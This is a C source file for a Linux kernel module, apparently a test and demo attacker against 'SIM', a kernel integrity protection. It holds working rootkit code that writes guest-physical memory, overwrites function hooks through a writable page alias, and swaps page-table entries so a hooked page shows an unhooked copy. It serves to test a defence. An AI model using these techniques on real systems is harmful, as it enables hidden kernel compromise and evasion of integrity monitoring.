// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * What an attacker who has the guest kernel does to SIM, as a kernel module for the demo and the tests.
 * Each parameter asks for one attack; the module says in the kernel log what it tried and what it saw.
 *
 *   probe_gpa=ADDRESS,...  map guest-physical memory there (the region), read and write it; 16 addresses at most
 *   overwrite=ADDRESS      put the 5-byte NOP back over the hook of the kernel function at ADDRESS,
 *                          through a writable alias of the page
 *   remap=ADDRESS          leave the hooked page alone, and have the kernel's page table show a copy without
 *                          the hook in its place: no write to a sealed page ever happens
 *
 * Addresses of functions come from /proc/kallsyms, so no symbol of the kernel is needed that modules lack.
 */
#include <linux/io.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/smp.h>
#include <linux/vmalloc.h>
#include <asm/pgtable.h>

static unsigned long probe_gpa[16];
static unsigned int probes;
module_param_array(probe_gpa, ulong, &probes, 0);
static unsigned long overwrite;
module_param(overwrite, ulong, 0);
static unsigned long remap;
module_param(remap, ulong, 0);

#define HOOK_BYTES 5
static const u8 nop5[HOOK_BYTES] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };

#define PTE_ADDRESS 0x000ffffffffff000UL
#define PTE_LARGE (1UL << 7)

/* The entry that maps a kernel address, of whatever size, found from CR3 as the CPU finds it. */
static u64 *leaf_entry(unsigned long address, unsigned int *shift)
{
	u64 *table = __va(__read_cr3() & PTE_ADDRESS);
	bool five_levels = native_read_cr4() & X86_CR4_LA57;
	u64 *entry;

	for (*shift = five_levels ? 48 : 39; ; *shift -= 9) {
		entry = &table[(address >> *shift) & 511];
		if (!(*entry & 1))
			return NULL;
		if (*shift == 12 || (*shift <= 30 && (*entry & PTE_LARGE)))
			return entry;
		table = __va(*entry & PTE_ADDRESS);
	}
}

static phys_addr_t physical_of(unsigned long address)
{
	unsigned int shift;
	u64 *entry = leaf_entry(address, &shift);

	if (!entry)
		return 0;
	return ((*entry & PTE_ADDRESS) & ~((1UL << shift) - 1)) | (address & ((1UL << shift) - 1));
}

/* The call of the gate: at the function's start, or after a 4-byte ENDBR64. NULL: not hooked. */
static u8 *hook_site(unsigned long function)
{
	u8 *code = (u8 *)function;

	if (code[0] == 0xe8)
		return code;
	if (code[4] == 0xe8)
		return code + 4;
	pr_info("rootkit: no hook at %px (%*ph)\n", code, 9, code);
	return NULL;
}

static void probe(void)
{
	unsigned int i;

	for (i = 0; i < probes; i++) {
		unsigned long gpa = probe_gpa[i];
		void __iomem *window = ioremap(gpa, PAGE_SIZE);
		u64 before, after;

		if (!window) {
			pr_info("rootkit: guest-physical %#lx cannot be mapped\n", gpa);
			continue;
		}
		before = readq(window);
		writeq(0x6b6f6f747265746eULL, window);
		after = readq(window);
		iounmap(window);
		pr_info("rootkit: guest-physical %#lx: read %#llx, wrote, read %#llx\n", gpa, before, after);
	}
}

static void overwrite_hook(void)
{
	u8 *site = hook_site(overwrite);
	struct page *page;
	u8 *alias;

	if (!site)
		return;
	page = pfn_to_page(physical_of((unsigned long)site) >> PAGE_SHIFT);
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias) {
		pr_info("rootkit: no alias for %px\n", site);
		return;
	}
	pr_info("rootkit: hook at %px before: %*ph\n", site, HOOK_BYTES, site);
	memcpy(alias + offset_in_page(site), nop5, HOOK_BYTES);
	pr_info("rootkit: hook at %px after:  %*ph: %s\n", site, HOOK_BYTES, site,
		 memcmp(site, nop5, HOOK_BYTES) ? "it withstood" : "gone");
	vunmap(alias);
}

static void flush(void *unused)
{
	unsigned long cr4 = native_read_cr4();

	/* Kernel text is global: only this reaches it. */
	asm volatile("mov %0, %%cr4" : : "r" (cr4 & ~X86_CR4_PGE) : "memory");
	asm volatile("mov %0, %%cr4" : : "r" (cr4) : "memory");
}

static void remap_hook(void)
{
	u8 *site = hook_site(remap);
	unsigned int shift, i;
	struct page *copy, *table;
	u64 *entry, *small, flags;
	u8 *text;

	if (!site)
		return;
	entry = leaf_entry((unsigned long)site, &shift);
	if (!entry || shift > 21 || offset_in_page(site) > PAGE_SIZE - HOOK_BYTES) {
		pr_info("rootkit: cannot remap %px\n", site);
		return;
	}
	copy = alloc_page(GFP_KERNEL);
	table = alloc_page(GFP_KERNEL);
	if (!copy || !table)
		return;
	text = page_address(copy);
	memcpy(text, (void *)((unsigned long)site & PAGE_MASK), PAGE_SIZE);
	memcpy(text + offset_in_page(site), nop5, HOOK_BYTES);

	if (shift == 21) {
		/* Split the large page: 511 entries as before, one of our own. */
		small = page_address(table);
		flags = *entry & ~PTE_ADDRESS & ~PTE_LARGE;
		for (i = 0; i < 512; i++)
			small[i] = ((*entry & PTE_ADDRESS & ~((1UL << 21) - 1)) + i * PAGE_SIZE) | flags;
		i = ((unsigned long)site >> PAGE_SHIFT) & 511;
		small[i] = page_to_phys(copy) | flags;
		WRITE_ONCE(*entry, page_to_phys(table) | 0x63); /* present, writable, accessed, dirty; the leaf restricts */
	} else {
		WRITE_ONCE(*entry, page_to_phys(copy) | (*entry & ~PTE_ADDRESS));
	}
	on_each_cpu(flush, NULL, 1);
	pr_info("rootkit: page of %px now shows guest-physical %#llx: %*ph\n", site,
		 (u64)page_to_phys(copy), HOOK_BYTES, site);
}

static int __init rootkit_init(void)
{
	probe();
	if (overwrite)
		overwrite_hook();
	if (remap)
		remap_hook();
	return 0;
}

static void __exit rootkit_exit(void)
{
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_DESCRIPTION("Attacks on SIM from within the guest kernel");
MODULE_LICENSE("GPL");
